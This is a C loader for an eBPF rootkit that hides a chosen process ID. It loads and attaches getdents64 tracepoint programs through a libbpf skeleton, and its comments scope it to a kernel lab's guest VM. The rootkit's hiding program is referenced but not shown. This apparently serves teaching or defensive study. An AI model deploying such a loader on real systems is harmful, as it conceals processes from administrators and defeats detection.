// SPDX-License-Identifier: GPL-2.0
// The loader of the lab's eBPF rootkit (bpf_hide_pid.bpf.c), for the kernel lab's guest only:
//
//   bpf_hide_pid PID
//
// Sets the pid to hide in the program's read-only data, loads and attaches both getdents64
// tracepoint programs through the bpftool-generated skeleton, prints "ready" and stays alive:
// the links live as long as its descriptors (nothing is pinned), as with the public eBPF
// rootkits' loaders. lab.sh links it statically (libbpf.a, libelf.a, libz.a): the guest has no
// libraries.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <bpf/libbpf.h>

#include "bpf_hide_pid.skel.h"

int main(int argc, char** argv) {
    char* end = NULL;
    const long pid = argc == 2 ? strtol(argv[1], &end, 10) : 0;
    if (pid <= 0 || pid > 4194304 || *end != '\0') {  // 4194304: the kernel's largest pid_max
        fprintf(stderr, "usage: bpf_hide_pid PID\n");
        return 2;
    }
    struct bpf_hide_pid* skel = bpf_hide_pid__open();
    if (!skel) {
        perror("bpf_hide_pid: open");
        return 1;
    }
    // .rodata is frozen at load: the name is written into the skeleton's copy before.
    snprintf((char*)skel->rodata->pid_name, sizeof(skel->rodata->pid_name), "%d", (int)pid);
    int err = bpf_hide_pid__load(skel);
    if (err) {
        fprintf(stderr, "bpf_hide_pid: load: %s\n", strerror(-err));
        return 1;
    }
    err = bpf_hide_pid__attach(skel);
    if (err) {
        fprintf(stderr, "bpf_hide_pid: attach: %s\n", strerror(-err));
        return 1;
    }
    printf("ready: hiding pid %ld\n", pid);
    fflush(stdout);
    for (;;) pause();
}
